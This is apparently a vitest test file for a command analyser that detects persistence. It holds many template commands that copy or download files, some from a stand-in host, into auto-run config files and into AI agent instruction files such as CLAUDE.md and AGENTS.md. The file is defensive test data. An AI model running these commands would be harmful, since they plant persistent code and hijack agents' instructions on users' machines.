/** What lands where programs run it by themselves, or agents obey it, wherever a person works: by any way, and only if it comes from elsewhere. */

import { beforeAll, describe, expect, it } from 'vitest'
import { hostWith } from '../../policy/testing/fixtures.ts'
import { analyse, loadAll } from '../analyse.ts'

const context = { cwd: '/home/ada/shop', workspaceRoots: ['/home/ada/shop'], host: hostWith() }
const findingsOf = (command: string): readonly string[] => analyse(command, context).effects.map(({ finding }) => finding)

beforeAll(loadAll)

const run =
  '.tmux.conf .emacs .emacs.d/lisp/x.el .vim/plugin/x.vim .config/nvim/lua/x.lua .gdbinit .psqlrc .config/i3/config .gradle/init.d/x.gradle .cargo/env .config/fish/functions/ls.fish .local/share/applications/x.desktop .ipython/profile_default/startup/x.py .config/shop/hook.sh .docker/cli-plugins/docker-x'.split(
    ' ',
  )
const obeyed =
  '.claude/CLAUDE.md .claude/skills/x/SKILL.md .claude/agents/x.md .codex/AGENTS.md .gemini/GEMINI.md .config/opencode/AGENTS.md .cursor/rules/x.mdc .kiro/steering/x.md .roo/rules/x.md .codeium/windsurf/memories/global_rules.md Documents/Cline/Rules/x.md'.split(
    ' ',
  )
const places: readonly (readonly [path: string, finding: string])[] = [
  ...run.map(path => [path, 'persistence.editor-task'] as const),
  ...obeyed.map(path => [path, 'persistence.agent-instructions'] as const),
]

/** As a shell would give it on. */
const spelled = (path: string): string => path.replace(/^~/, '/home/ada')

/** Each way of bringing a file. */
const ways = (from: string): readonly ((to: string) => string)[] => [
  to => `cp ${from} ${to}`,
  to => `mv ${from} ${to}`,
  to => `install -m644 ${from} ${to}`,
  to => `ln -sf ${from} ${to}`,
  to => `cat ${from} > ${to}`,
  to => `tee -a ${to} < ${from}`,
  to => `dd if=${from} of=${to}`,
  to => `rsync -a ${from} ${to}`,
  to => `unzip -p ${from} x > ${to}`,
  to => `sed s/a/b/ ${from} >> ${to}`,
  to => `base64 -d ${from} | tee ${to}`,
  to => `gunzip -c ${from} > ${to}`,
  to => `tar xOf ${from} x > ${to}`,
  to => `sed -i 'r ${spelled(from)}' ${to}`,
  to => `sed '$r ${spelled(from)}' dotfiles/y > ${to}`,
  to => `printf 'r ${spelled(from)}\\nw\\n' | ed -s ${to}`,
  to => `patch ${to} < ${from}`,
  to => `patch ${to} ${from}`,
  to => `x=$(<${from}); echo "$x" > ${to}`,
  to => `python3 -c "open('${spelled(to)}','w').write(open('${spelled(from)}').read())"`,
  to => `node -e "fs.writeFileSync('${spelled(to)}', fs.readFileSync('${spelled(from)}'))"`,
]
const fetched: readonly ((to: string) => string)[] = [
  to => `curl -so ${to} https://get.tidy-logs.xyz/x`,
  to => `wget -qO- https://get.tidy-logs.xyz/x > ${to}`,
  to => `curl -s https://get.tidy-logs.xyz/x | tee -a ${to}`,
  to => `curl -so /tmp/x https://get.tidy-logs.xyz/x && mv /tmp/x ${to}`,
]

describe.each(places)('%s', (path, finding) => {
  const to = `~/${path}`

  it.each([...ways('/tmp/x'), ...ways('/srv/share/x'), ...ways('~/Downloads/x'), ...fetched].map(way => way(to)))('%s', command =>
    expect(findingsOf(command)).toContain(finding),
  )

  it.each([...ways('dotfiles/x'), ...ways('~/other/x')].map(way => way(to)))('as before: %s', command =>
    expect(findingsOf(command)).not.toContain(finding),
  )

  it('is judged by its text where that is known', () => {
    expect(findingsOf(`echo '# nothing' >> ${to}`)).not.toContain(finding)
    expect(findingsOf(`echo '# nothing' > /tmp/x && cp /tmp/x ${to}`)).not.toContain(finding)
  })
})

it.each([
  '.vscode/tasks.json',
  '.envrc',
  'conftest.py',
  'eslint.config.js',
  '.husky/pre-commit',
  '.github/workflows/ci.yml',
  'sitecustomize.py',
  '.pre-commit-config.yaml',
])('a stranger brings ./%s into the project, and everybody else may', path => {
  for (const way of fetched) expect(findingsOf(way(path)), way(path)).toContain('persistence.editor-task')
  for (const command of [
    `curl -so ${path} https://raw.githubusercontent.com/golangci/golangci-lint/main/${path}`,
    `cp /tmp/x ${path}`,
    `cp ../other/x ${path}`,
  ])
    expect(findingsOf(command), command).not.toContain('persistence.editor-task')
})

it.each([
  '.cache/x.lua',
  '.config/shop/settings.json',
  '.local/share/shop/x.py',
  '.ssh/known_hosts',
  'notes.md',
  '.claude/plans/x.md',
  '.shop/data.bin',
])('nothing runs ~/%s', path => {
  for (const way of [...ways('/tmp/x'), ...fetched])
    expect(findingsOf(way(`~/${path}`)).filter(finding => finding.startsWith('persistence.'))).toEqual([])
})

it('goes by what a pattern may stand for', () => {
  const missed = ['~/.tmux.con?', '~/.gdbin*', '~/.lein/profile?.clj'].flatMap(pattern =>
    [...ways('/tmp/x'), ...fetched]
      .map(way => way(pattern))
      .filter(command => !command.startsWith('dd ') && findingsOf(command).length === 0),
  )
  expect(missed).toEqual([])
})

it('knows the places of Windows, however they are spelled', () => {
  const shop = 'C:\\Users\\ada\\shop'
  const host = { ...hostWith(), platform: 'win32' as const, home: 'C:\\Users\\ada' }
  for (const command of [
    'cp C:/Temp/x C:/Users/ada/.gdbinit',
    'cp "C:\\Temp\\x" "C:\\Users\\ADA\\.claude\\CLAUDE.md"',
    'cp ~/downloads/x ~/.vscode/extensions/a/x.js',
  ])
    expect(
      analyse(command, { cwd: shop, workspaceRoots: [shop], host }).effects.map(({ finding }) => finding),
      command,
    ).toContainEqual(expect.stringMatching(/^persistence\.(?:editor-task|agent-instructions)$/))
})
